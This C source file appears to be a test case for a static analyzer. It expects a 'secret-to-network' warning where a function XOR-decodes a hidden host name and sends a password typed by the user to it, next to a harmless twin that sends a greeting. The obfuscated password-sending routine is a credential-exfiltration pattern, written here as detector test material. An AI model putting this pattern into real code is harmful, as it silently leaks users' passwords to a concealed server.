/* A password goes to a host whose name the program decodes first; its twin greets that host. */
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void unmask(char *to, const unsigned char *from, size_t size) {
    for (size_t i = 0; i < size; i++)
        to[i] = (char)(from[i] ^ (0x21 + i));
    to[size] = 0;
}

static int dial(const char *host) {
    struct addrinfo *found = NULL;
    if (getaddrinfo(host, "80", NULL, &found) != 0)
        return -1;
    int s = socket(found->ai_family, SOCK_STREAM, 0);
    if (connect(s, found->ai_addr, found->ai_addrlen) != 0)
        return -1;
    return s;
}

void sign_in(void) {
    static const unsigned char label[] = {0x42, 0x4d, 0x4f, 0x48, 0x40, 0x45, 0x53, 0x06,
                                          0x4c, 0x52, 0x4a, 0x41, 0x5d, 0x42, 0x4a};
    char host[32];
    unmask(host, label, sizeof label);
    int s = dial(host);
    const char *answer = getpass("Password: ");
    // expected-warning-re@+1 {{{{.*}} [vitrine: exfil/secret-to-network]}}
    send(s, answer, strlen(answer), 0);
    close(s);
}

void greet(void) {
    static const unsigned char label[] = {0x49, 0x47, 0x4f, 0x48, 0x4a};
    char text[32];
    unmask(text, label, sizeof label);
    int s = dial("mirror.example");
    send(s, text, strlen(text), 0);
    close(s);
}
